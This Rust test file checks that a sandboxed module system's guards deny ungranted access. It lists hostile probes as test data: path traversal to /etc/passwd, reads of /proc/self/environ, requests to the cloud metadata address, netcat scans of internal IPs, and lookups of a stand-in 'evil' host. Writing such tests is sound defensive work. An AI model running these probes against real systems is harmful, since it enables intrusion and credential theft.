//! The hostile shelf: a module that others call tries one thing after the other that it was not granted. That nothing came of
//! it is counted at the server, on the disk and in the step, and each guard, taken away, lets its try through.

use std::{
    io::Write as _,
    net::TcpListener,
    path::PathBuf,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
};

use wharf_e2e::{guests, internet::Internet};
use wharf_testkit::{World, shared, world::Done};

/// A server on all of this host's addresses that counts who comes, and answers nothing that anybody could use.
struct Server {
    port: u16,
    visitors: Arc<AtomicUsize>,
}

impl Server {
    fn start() -> Self {
        let listener = TcpListener::bind("0.0.0.0:0").expect("a port");
        let port = listener.local_addr().expect("an address").port();
        let visitors = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&visitors);
        thread::spawn(move || {
            for mut visitor in listener.incoming().map_while(Result::ok) {
                count.fetch_add(1, Ordering::SeqCst);
                visitor
                    .write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n")
                    .ok();
            }
        });
        Self { port, visitors }
    }

    fn visitors(&self) -> usize {
        self.visitors.load(Ordering::SeqCst)
    }
}

struct Shelf {
    world: World,
    module: PathBuf,
    server: Server,
}

impl Shelf {
    fn new() -> Self {
        let mut world = World::new().expect("a world");
        guests::raw();
        let module = guests::caller(&world);
        world.set("HOSTILE_VARIABLE", "a value of the caller's");
        world.set("PASSED", "passed-value");
        world.write("file.txt", "a file of the caller's");
        Self {
            world,
            module,
            server: Server::start(),
        }
    }

    fn tries(&self, what: &str, value: &str, without_guard: Option<&str>) -> Done {
        let mut command = self.world.command(["call", "-q", "--timeout", "60s", "-m"]);
        command.arg(&self.module);
        command.args(["tries", "--image", "busybox", "--what", what, "--value", value]);
        command.envs(without_guard.map(|guard| ("WHARF_TEST_WITHOUT_GUARD", guard)));
        Done::of(command)
    }
}

/// What is tried, and the guard that stops it. `{port}` is the server's.
const TRIES: [(&str, &str, &str); 39] = [
    ("env", "HOSTILE_VARIABLE", "host-env"),
    ("env", "PATH", "host-env"),
    ("env", "PASSED", "host-env"),
    ("file", "file.txt", "host-read"),
    ("file", "/etc/passwd", "host-read"),
    ("file", "../../../../../../../../etc/passwd", "host-read"),
    ("file", "/proc/self/environ", "host-read"),
    ("directory", ".", "host-read"),
    ("directory", "/", "host-read"),
    ("directory", "src/../..", "host-read"),
    ("find-up", "Cargo.toml", "host-read"),
    ("write", "written", "host-write"),
    ("write", "/tmp/wharf-hostile-written", "host-write"),
    ("write", "../../wharf-hostile-written", "host-write"),
    ("image", "alpine", "images"),
    ("image", "127.0.0.1:{port}/a/b:latest", "images"),
    ("image", "localhost:{port}/library/busybox", "images"),
    ("image", "busybox", "images"),
    ("docker", "busybox", "docker"),
    ("http", "http://127.0.0.1:{port}/secret", "http"),
    ("http", "http://localhost:{port}/", "http"),
    ("http", "http://169.254.169.254/latest/meta-data", "http"),
    ("http", "https://user:password@127.0.0.1:{port}/", "http"),
    ("http", "HTTP://127.0.0.1:{port}/", "http"),
    ("git", "http://127.0.0.1:{port}/x.git", "git"),
    ("git", "ssh://git@127.0.0.1:{port}/x.git", "git"),
    ("git", "file:///etc", "git"),
    ("network", "wget -T 2 -q -O - http://127.0.0.1:{port}/", "network"),
    ("network", "nslookup secret.example.com", "network"),
    ("hosts", "evil.example nslookup secret.evil.example", "network"),
    ("hosts", "allowed.example,10.0.0.1 true", "network"),
    ("hosts", "*.example true", "network"),
    ("hosts", "*.below.example true", "network"),
    ("hosts", "below.example:443 true", "network"),
    ("cache", "cargo", "caches"),
    ("cache", "shared-name-of-others", "caches"),
    ("publish", "127.0.0.1:{port}/x/y:latest", "registry"),
    ("publish", "localhost:{port}/x/y", "registry"),
    ("tunnel", "127.0.0.1:{port}", "tunnels"),
];

#[test]
fn b44_what_was_not_granted_is_denied_and_nothing_comes_of_it() {
    let shelf = Shelf::new();
    let port = shelf.server.port.to_string();
    for (what, value, guard) in TRIES {
        let denied = shelf.tries(what, &value.replace("{port}", &port), None);
        denied
            .exits(3)
            .says(&format!(
                "wharf-tests:helper (called by wharf-tests:caller) may not use {guard}"
            ))
            .says("under [grants.\"wharf-tests:helper\"] of");
        assert_eq!(denied.text(), "", "{what} {value}");
        for leaked in [
            "a value of the caller's",
            "a file of the caller's",
            "passed-value",
        ] {
            assert!(
                !denied.stderr.contains(leaked),
                "{what} {value}: {}",
                denied.stderr
            );
        }
    }
    assert_eq!(shelf.server.visitors(), 0);
    for place in ["work/written", "wharf-hostile-written"] {
        assert!(!shelf.world.path(place).exists(), "{place}");
    }
    assert!(!guests::source("caller").join("written").exists());
    assert!(!PathBuf::from("/tmp/wharf-hostile-written").exists());
}

#[test]
fn b42_a_step_of_a_module_without_network_reaches_nobody() {
    let shelf = Shelf::new();
    let port = shelf.server.port;
    for script in [
        format!("wget -T 2 -q -O - http://127.0.0.1:{port}/ 2>&1"),
        format!(
            "for a in 10.0.0.1 172.17.0.1 192.168.0.1 169.254.169.254; do echo x | nc -w 1 $a {port}; done 2>&1"
        ),
        "nslookup secret.example.com 2>&1".to_owned(),
        "ls /sys/class/net | grep -v lo".to_owned(),
    ] {
        shelf.tries("step", &format!("{script}; true"), None).ok();
    }
    assert_eq!(shelf.tries("step", "ls /sys/class/net", None).ok(), "lo");
    assert_eq!(shelf.server.visitors(), 0);
}

#[test]
fn b44_steps_reach_the_hosts_that_their_module_was_granted_and_no_others() {
    shared::only_with_its_own_engine();
    let shelf = Shelf::new();
    let internet = Internet::start(&["allowed.example"]);
    internet.name("allowed.example", &[internet.address(10)]);
    internet.name("secret.evil.example", &[internet.address(11)]);
    // An engine that sees this internet: what it asks for names is the test's own server.
    let start = format!(
        "exec unshare --mount sh -c 'mount --bind {} /etc/resolv.conf && exec wharf engine start'",
        internet.resolv_conf().display()
    );
    Done::of(shelf.world.shell(&shelf.world.path("work"), &start)).ok();
    let hosts = |script: &str| shelf.tries("hosts", &format!("allowed.example {script}"), None);
    assert_eq!(
        hosts("wget -q -O - http://allowed.example/").ok(),
        "this is allowed.example"
    );
    let evil = internet.address(11);
    for (script, told) in [
        (
            "wget -q -O - http://secret.evil.example/",
            "secret.evil.example".to_owned(),
        ),
        ("nslookup secret.evil.example", "secret.evil.example".to_owned()),
        (&format!("wget -q -O - http://{evil}/"), format!("{evil}:80")),
        (
            "wget -q -O - http://169.254.169.254/latest/meta-data",
            "169.254.169.254:80".to_owned(),
        ),
        (
            &format!("wget -q -O - http://allowed.example/to/http://{evil}/"),
            format!("{evil}:80"),
        ),
    ] {
        let tried = hosts(&format!("{script} 2>&1; true"));
        assert!(!tried.ok().contains("this is"), "{script}: {}", tried.text());
        tried.says(&format!(
            "wharf: the step may not reach {told} (its network is [\"allowed.example\"])"
        ));
    }
    let seen = internet.seen();
    assert!(
        seen.names.iter().all(|name| name == "allowed.example"),
        "{seen:?}"
    );
    assert!(
        seen.connections.iter().all(|place| place.ip() != evil),
        "{seen:?}"
    );
}

/// One try for each guard: without its guard it is not denied.
#[test]
fn b44_each_guard_is_what_stops_its_tries() {
    shared::only_with_its_own_engine();
    let shelf = Shelf::new();
    let port = shelf.server.port.to_string();
    let mut seen = Vec::new();
    for (what, value, guard) in TRIES {
        if seen.contains(&guard) {
            continue;
        }
        seen.push(guard);
        let before = shelf.server.visitors();
        let through = shelf.tries(what, &value.replace("{port}", &port), Some(guard));
        assert_ne!(
            through.code, 3,
            "{what} {value} without {guard}: {}",
            through.stderr
        );
        // What the tests above count is what is counted here.
        match what {
            "env" => assert!(through.ok().contains("a value of the caller's")),
            "http" | "publish" | "tunnel" => assert!(shelf.server.visitors() > before, "{what}"),
            "write" => {
                std::fs::remove_dir_all(guests::source("caller").join("written")).expect("it was written")
            }
            _ => {}
        }
    }
    // The seal, too.
    let script = "cat /cache/who /secret 2>/dev/null; true";
    let mut command = shelf.world.command(["call", "-q", "-m"]);
    command
        .arg(&shelf.module)
        .args(["hands-container", "--secret", "env:PASSED"]);
    command.args(["--image", "busybox", "--script", script]);
    command.env("WHARF_TEST_WITHOUT_GUARD", "seal");
    assert!(Done::of(command).ok().starts_with("theirs: caller\n"));
}
